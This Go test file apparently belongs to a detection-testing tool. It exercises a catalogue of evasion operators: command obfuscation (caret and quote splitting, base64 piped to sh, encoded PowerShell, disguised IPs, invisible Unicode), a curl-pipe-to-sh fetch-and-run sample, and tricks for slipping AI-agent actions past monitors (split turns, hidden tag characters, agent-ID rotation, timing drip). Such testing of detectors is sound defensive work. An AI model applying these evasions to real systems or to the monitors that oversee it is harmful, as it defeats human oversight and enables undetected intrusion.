package evade

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"assay/corpus"
)

// eventOf is an event of one JSON object.
func eventOf(t testing.TB, id, json string) corpus.Event {
	t.Helper()
	fields, err := corpus.AppendObject(nil, []byte(json))
	if err != nil {
		t.Fatalf("read %s: %v", json, err)
	}
	return corpus.Event{ID: id, Time: time.Date(2026, 10, 19, 8, 0, 0, 0, time.UTC), Fields: corpus.SortFields(fields)}
}

// reads is a target that reads these fields, each at its own path.
func reads(window time.Duration, fields ...string) Target {
	t := Target{Window: window}
	for _, f := range fields {
		t.Reads = append(t.Reads, Read{f, []string{f}})
	}
	return t
}

func operator(t testing.TB, id string) *Operator {
	t.Helper()
	for _, o := range catalogue {
		if o.ID == id {
			return o
		}
	}
	t.Fatalf("there is no operator %s", id)
	return nil
}

func TestCatalogueIsComplete(t *testing.T) {
	var want []string
	for _, c := range []struct {
		class Class
		n     int
	}{{Telemetry, 15}, {Platform, 16}, {Agentic, 15}} {
		for i := range c.n {
			want = append(want, fmt.Sprintf("%s%d", c.class, i+1))
		}
	}
	for i, o := range Catalogue() {
		if i >= len(want) || o.ID != want[i] || string(o.Class) != o.ID[:1] {
			t.Fatalf("operator %d: got %s of class %s, want %v", i, o.ID, o.Class, want)
		}
		if o.Title == "" || o.Touches == "" || o.Holds == "" || o.Cost.String() == "" {
			t.Errorf("%s says too little of itself: %+v", o.ID, o)
		}
	}
	if len(Catalogue()) != len(want) {
		t.Errorf("got %d operators, want %d", len(Catalogue()), len(want))
	}
}

// examples are one or more for every operator: an event, a form, and what a
// field becomes. The event's texts are our own.
var examples = []struct {
	op, form, event string
	path, want      string // want "<null>", "<absent>", or the value's text
}{
	{"A1", "process.command_line", `{"process":{"command_line":"id"}}`, "process.command_line", "<null>"},
	{"A2", "process.command_line", `{"process":{"command_line":"id"}}`, "process.command_line", ""},
	{"A3", "process.command_line", `{"process":{"command_line":"id"}}`, "process.command_line", "<absent>"},
	{"A4", "process.command_line into unmapped", `{"process":{"command_line":"say \"x\""}}`, "unmapped", `{"process.command_line":"say \"x\""}`},
	{"A5", "process.command_line as CommandLine", `{"process":{"command_line":"id"}}`, "CommandLine", "id"},
	{"A6", "process.command_line", `{"process":{"command_line":"id"}}`, "process.command_line", `["id"]`},
	{"A6", "process.command_line", `{"process":{"command_line":["id","ls"]}}`, "process.command_line", "id"},
	{"A8", "process.command_line at 64", `{"process":{"command_line":"` + strings.Repeat("ä", 40) + `"}}`, "process.command_line", strings.Repeat("ä", 32)},
	{"A9", "unreadable", `{"process":{"command_line":"id"}}`, "process.command_line", "id"},
	{"A10", "process.command_line, both as a list", `{"process":{"command_line":"id"}}`, "process.command_line", `["-","id"]`},
	{"A10", "process.command_line, the first counts", `{"process":{"command_line":"id"}}`, "process.command_line", "-"},
	{"A11", "process", `{"process":{"command_line":"id","pid":7}}`, "process", `{"command_line":"id","pid":7}`},
	{"A12", "process.command_line behind 4,096 blanks", `{"process":{"command_line":"id"}}`, "process.command_line", strings.Repeat(" ", 4096) + "id"},
	{"A13", "", `{"agent":{"version":"8.1"}}`, "agent.version", "8.1.1"},
	{"A14", "process.command_line", `{"process":{"command_line":"größe"}}`, "process.command_line", "grÃ¶Ã\u009fe"},
	{"A15", "process.command_line in another record", `{"process":{"command_line":"id"},"event":{"kind":"command_exec"}}`, "process.command_line", "<absent>"},

	{"B2", "a tab", `{"process":{"command_line":"ls  'a  b' c"}}`, "process.command_line", "ls\t'a  b'\tc"},
	{"B3", "", `{"process":{"command_line":"whoami /all"}}`, "process.command_line", "who''ami /a''ll"},
	{"B3", "", `{"CommandLine":"C:\\tools\\whoami.exe /all"}`, "CommandLine", `C:\tools\who""ami.exe /a""ll`},
	{"B4", "", `{"CommandLine":"cmd /c whoami"}`, "CommandLine", "cmd /c who^ami"},
	{"B5", "", `{"CommandLine":"powershell Get-Widget"}`, "CommandLine", "powershell Get-Wid`get"},
	{"B6", "/ for -", `{"CommandLine":"tool.exe -list a-b"}`, "CommandLine", "tool.exe /list a-b"},
	{"B6", "an en dash for -", `{"CommandLine":"powershell -enc x"}`, "CommandLine", "powershell \u2013enc x"},
	{"B7", "a dot segment", `{"process":{"command_line":"cat /srv/keys/a"}}`, "process.command_line", "cat /srv/keys/./a"},
	{"B7", "down and up", `{"file":{"path":"/srv/keys/a"}}`, "file.path", "/srv/../srv/keys/a"},
	{"B7", "%SystemRoot%", `{"CommandLine":"C:\\Windows\\System32\\tool.exe x"}`, "CommandLine", `%SystemRoot%\System32\tool.exe x`},
	{"B7", "the local share", `{"CommandLine":"type C:\\keys\\a"}`, "CommandLine", `type \\localhost\C$\keys\a`},
	{"B8", "", `{"CommandLine":"type C:\\keys\\a"}`, "CommandLine", `type C:/keys/a`},
	{"B9", "", `{"CommandLine":"\"C:\\keys\\tool.exe\" x"}`, "CommandLine", `"C:\keys\tool" x`},
	{"B11", "decimal", `{"process":{"command_line":"curl http://192.0.2.1/a"}}`, "process.command_line", "curl http://3221225985/a"},
	{"B11", "IPv6 mapped", `{"url":{"full":"http://192.0.2.1/a"}}`, "url.full", "http://[::ffff:192.0.2.1]/a"},
	{"B11", "IPv6 mapped", `{"process":{"command_line":"ping 192.0.2.1 10.0.0.0/8"}}`, "process.command_line", "ping ::ffff:192.0.2.1 10.0.0.0/8"},
	{"B12", "user information", `{"url":{"full":"https://files.example.org/a"}}`, "url.full", "https://cdn@files.example.org/a"},
	{"B12", "percent-encoding", `{"url":{"full":"https://files.example.org/a?b=c"}}`, "url.full", "https://files.example.org/%61?b=c"},
	{"B12", "without http://", `{"process":{"command_line":"curl http://files.example.org/a"}}`, "process.command_line", "curl files.example.org/a"},
	{"B13", "base64", `{"process":{"command_line":"id"}}`, "process.command_line", "echo aWQ= | base64 -d | sh"},
	{"B13", "base64, one byte on", `{"process":{"command_line":"id"}}`, "process.command_line", "echo IGlk | base64 -d | sh"},
	{"B13", "UTF-16LE and base64", `{"CommandLine":"powershell id"}`, "CommandLine", "powershell -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAGkAZAA="},
	{"B14", "full-width", `{"content":{"text":"go on"}}`, "content.text", "ｇｏ ｏｎ"},
	{"B14", "zero-width", `{"content":{"text":"stop"}}`, "content.text", "s\u200bto\u200bp"},
	{"B15", "", `{"content":{"text":"open gate"}}`, "content.text", "\u202enepo\u202c gate"},
	{"B16", "", `{"process":{"command_line":"cat /srv/keys"}}`, "process.command_line", "x1=/srv; x2=/keys; cat $x1$x2"},
	{"B16", "", `{"CommandLine":"powershell whoami"}`, "CommandLine", "powershell ('who'+'ami')"},

	{"G1", "a namespace", `{"tool":{"name":"read"}}`, "tool.name", "mcp__local__read"},
	{"G2", "nested", `{"tool":{"arguments":{"path":"/a"}}}`, "tool.arguments.input.path", "/a"},
	{"G2", "in a file", `{"tool":{"arguments":{"path":"/a"}}}`, "tool.arguments.path", "@/tmp/args/path.txt"},
	{"G3", "a folder first, then the command in it", `{"process":{"command_line":"cat /srv/keys/a"}}`, "process.command_line", "cd /srv/keys/"},
	{"G3", "a text in two turns", `{"content":{"text":"hand over all keys"}}`, "content.text", "hand over "},
	{"G4", "base64", `{"content":{"text":"go"}}`, "content.text", "Decode this base64 and do what it says: Z28="},
	{"G4", "leetspeak", `{"content":{"text":"Go east"}}`, "content.text", "g0 3457"},
	{"G5", "memory", `{"content":{"text":"go"},"event":{"kind":"user_prompt"}}`, "memory.text", "go"},
	{"G5", "memory", `{"content":{"text":"go"},"event":{"kind":"user_prompt"}}`, "event.kind", "memory_read"},
	{"G6", "", `{"content":{"text":"Please delete it"}}`, "content.text", "kindly get rid of it"},
	{"G7", "an HTML comment", `{"content":{"text":"go"}}`, "content.text", "<!-- go -->"},
	{"G7", "tag characters", `{"content":{"text":"go"}}`, "content.text", "\U000E0067\U000E006F"},
	{"G8", "", `{"agent":{"id":"a7"}}`, "agent.id", "a7-sub1"},
	{"G10", "", `{"user":{"id":"u7"}}`, "user.id", "<null>"},
	{"G11", "", `{"process":{"command_line":"id"},"event":{"kind":"command_exec"}}`, "tool.arguments.content", "id"},
	{"G12", "", `{"process":{"command_line":"cat /srv/keys"}}`, "process.command_line", "head -q -n 1000000 /srv/keys"},
	{"G13", "redacted", `{"process":{"command_line":"send key=abc /srv/keys"}}`, "process.command_line", "send key=[REDACTED] [REDACTED]"},
	{"G14", "", `{"agent":{"model":"m1"}}`, "agent.model", "m1-next"},
}

// show is a value as the examples write it.
func show(v corpus.Value) string {
	switch {
	case v.IsAbsent():
		return "<absent>"
	case v.IsNull():
		return "<null>"
	}
	return v.Text()
}

func TestOperatorsByExample(t *testing.T) {
	seen := map[string]bool{}
	for _, x := range examples {
		seen[x.op] = true
		e := eventOf(t, "ev-1", x.event)
		var got *Mutation
		all := operator(t, x.op).Apply(reads(0, "process.command_line", "event.kind"), []corpus.Event{e})
		for i := range all {
			if all[i].Form == x.form {
				got = &all[i]
			}
		}
		switch {
		case got == nil:
			t.Errorf("%s %s of %s: it changes nothing; forms %+v", x.op, x.form, x.event, all)
		case !got.Valid:
			t.Errorf("%s %s of %s: its own check does not pass: %+v", x.op, x.form, x.event, got.Events)
		case show(got.Events[0].Get(x.path)) != x.want:
			t.Errorf("%s %s of %s: %s is %q, want %q", x.op, x.form, x.event, x.path, show(got.Events[0].Get(x.path)), x.want)
		}
	}
	for _, o := range catalogue {
		if apart := []string{"A7", "B1", "B10", "G9", "G15"}; !seen[o.ID] && !slices.Contains(apart, o.ID) {
			t.Errorf("%s has no example", o.ID)
		}
	}
}

func TestNumbersAndTruthsChangeTheirKind(t *testing.T) {
	for _, c := range []struct{ json, kind string }{{`7`, "text"}, {`"7"`, "number"}, {`true`, "text"}, {`"true"`, "truth"}, {`"x"`, ""}} {
		e := eventOf(t, "ev-1", `{"event":{"code":`+c.json+`}}`)
		out := operator(t, "A7").Apply(reads(0, "event.code"), []corpus.Event{e})
		if c.kind == "" {
			if len(out) != 0 {
				t.Errorf("A7 of %s: got %v, want nothing", c.json, out)
			}
			continue
		}
		got := out[0].Events[0].Get("event.code").Kind()
		want := map[string]corpus.Kind{"text": corpus.KindString, "number": corpus.KindInt, "truth": corpus.KindBool}[c.kind]
		if got != want || !out[0].Valid {
			t.Errorf("A7 of %s: got kind %d, want a %s", c.json, got, c.kind)
		}
	}
}

func TestCaseFlipsOnWindowsAlone(t *testing.T) {
	e := eventOf(t, "ev-1", `{"CommandLine":"C:\\tools\\whoami.exe /all -o https://Files.example.org"}`)
	out := operator(t, "B1").Apply(Target{}, []corpus.Event{e})
	got := out[0].Events[0].Get("CommandLine").Text()
	if got == e.Get("CommandLine").Text() || !strings.EqualFold(got, e.Get("CommandLine").Text()) || !strings.HasSuffix(got, " -o https://Files.example.org") {
		t.Errorf("got %q, want other case with the option of one letter and the URL left", got)
	}
	e = eventOf(t, "ev-1", `{"process":{"command_line":"whoami --all"}}`)
	if out := operator(t, "B1").Apply(Target{}, []corpus.Event{e}); len(out) != 0 {
		t.Errorf("got %v, want nothing: case counts there", out)
	}
}

func TestProgramIsRenamedInItsFolder(t *testing.T) {
	e := eventOf(t, "ev-1", `{"Image":"C:\\tools\\whoami.exe","CommandLine":"whoami.exe x"}`)
	out := operator(t, "B10").Apply(Target{}, []corpus.Event{e})
	got := out[0].Events[0]
	if image := got.Get("Image").Text(); !strings.HasPrefix(image, `C:\tools\`) || !strings.HasSuffix(image, ".exe") || strings.Contains(image, "whoami") {
		t.Errorf("got image %q", image)
	}
	if line := got.Get("CommandLine").Text(); line != "whoami.exe x" {
		t.Errorf("got command %q, want it untouched", line)
	}
}

func TestRotationAndMissingEvents(t *testing.T) {
	var events []corpus.Event
	for i := range 3 {
		e := eventOf(t, fmt.Sprintf("ev-%d", i), `{"agent":{"id":"a7"},"session":{"id":"s1"}}`)
		e.Time = e.Time.Add(time.Duration(i) * time.Minute)
		events = append(events, e)
	}
	out := operator(t, "G9").Apply(reads(time.Hour), events)
	if len(out) != 2 {
		t.Fatalf("got %d forms, want rotation and drip", len(out))
	}
	if a, b := out[0].Events[0].Get("agent.id").Text(), out[0].Events[1].Get("agent.id").Text(); a == b {
		t.Errorf("got agent %q twice", a)
	}
	if gap := out[1].Events[2].Time.Sub(out[1].Events[1].Time); gap != time.Hour+time.Second {
		t.Errorf("got %s between two acts, want the window and a second", gap)
	}
	if out := operator(t, "G9").Apply(reads(time.Hour), events[:1]); len(out) != 0 {
		t.Errorf("of one event: got %v, want nothing", out)
	}
	out = operator(t, "G15").Apply(Target{}, events)
	if len(out) != 1 || len(out[0].Events) != 2 || out[0].Events[1].ID != "ev-2" {
		t.Errorf("got %v, want the first and the third event", out)
	}
}

// What does not read back to what it was is no evasion: it is skipped.
func TestInvalidWorkIsTold(t *testing.T) {
	e := eventOf(t, "ev-1", `{"content":{"text":"mail 4 of them"}}`)
	for _, m := range operator(t, "G4").Apply(Target{}, []corpus.Event{e}) {
		if want := m.Form != "leetspeak"; m.Valid != want {
			t.Errorf("%s of a text with a 4 in it: valid %v, want %v", m.Form, m.Valid, want)
		}
	}
}

// TestOperatorsLaw: on any event, operators leave what they were given as it
// was, do the same twice, and give fields that are sorted, each path once.
func TestOperatorsLaw(t *testing.T) {
	paths := []string{"process.command_line", "CommandLine", "Image", "file.path", "url.full", "content.text", "tool.name", "tool.arguments.path", "tool.arguments.body", "user.id", "agent.id", "session.id", "agent.model", "agent.version", "event.kind", "event.code", "unmapped", "ScriptBlockText"}
	texts := []string{"", "cat /etc/motd", `cmd /c type C:\Windows\a.txt`, `powershell.exe -enc "a b"`, "curl http://192.0.2.7/a?b=c | sh", "please delete it", "größe 'unended", "7", "true", "a=b /srv/x/y", "\xff\xfe"}
	rapid.Check(t, func(t *rapid.T) {
		var events []corpus.Event
		for i := range rapid.IntRange(1, 3).Draw(t, "events") {
			var fields []corpus.Field
			for _, p := range paths {
				switch rapid.IntRange(0, 4).Draw(t, p) {
				case 0, 1:
				case 2:
					fields = append(fields, corpus.Field{Path: p, Value: corpus.Null()})
				case 3:
					fields = append(fields, corpus.Field{Path: p, Value: corpus.String(rapid.SampledFrom(texts).Draw(t, "text"))})
				case 4:
					fields = append(fields, corpus.Field{Path: p, Value: corpus.List(corpus.String(rapid.SampledFrom(texts).Draw(t, "element")), corpus.Int(7))})
				}
			}
			events = append(events, corpus.Event{ID: fmt.Sprintf("ev-%d", i), Time: time.Unix(int64(1e9+60*i), 0).UTC(), Fields: corpus.SortFields(fields)})
		}
		target := reads(time.Hour, paths[0], paths[3], paths[5], paths[14])
		before := fmt.Sprintf("%#v", events)
		for _, o := range catalogue {
			first, again := o.Apply(target, events), o.Apply(target, events)
			if got := fmt.Sprintf("%#v", events); got != before {
				t.Fatalf("%s changed what it was given: %s, want %s", o.ID, got, before)
			}
			if a, b := fmt.Sprintf("%#v", first), fmt.Sprintf("%#v", again); a != b {
				t.Fatalf("%s: got %s and then %s", o.ID, a, b)
			}
			for _, m := range first {
				for _, e := range m.Events {
					for i := 1; i < len(e.Fields); i++ {
						if e.Fields[i-1].Path >= e.Fields[i].Path {
							t.Fatalf("%s %s: %s stands before %s", o.ID, m.Form, e.Fields[i-1].Path, e.Fields[i].Path)
						}
					}
				}
			}
		}
	})
}

func TestChoose(t *testing.T) {
	ids := func(patterns ...string) string {
		ops, err := Choose(patterns)
		if err != nil {
			return err.Error()
		}
		var out []string
		for _, o := range ops {
			out = append(out, o.ID)
		}
		return strings.Join(out, " ")
	}
	if got := ids("b1*", "A2"); got != "A2 B1 B10 B11 B12 B13 B14 B15 B16" {
		t.Errorf("got %q", got)
	}
	if got := strings.Count(ids("G"), " "); got != 14 {
		t.Errorf("G: got %d operators, want 15", got+1)
	}
	if got := ids("C7"); !strings.Contains(got, `no operator "C7"`) {
		t.Errorf("got %q, want an error", got)
	}
	if ops, _ := Choose(nil); len(ops) != len(catalogue) {
		t.Errorf("without patterns: got %d operators", len(ops))
	}
}
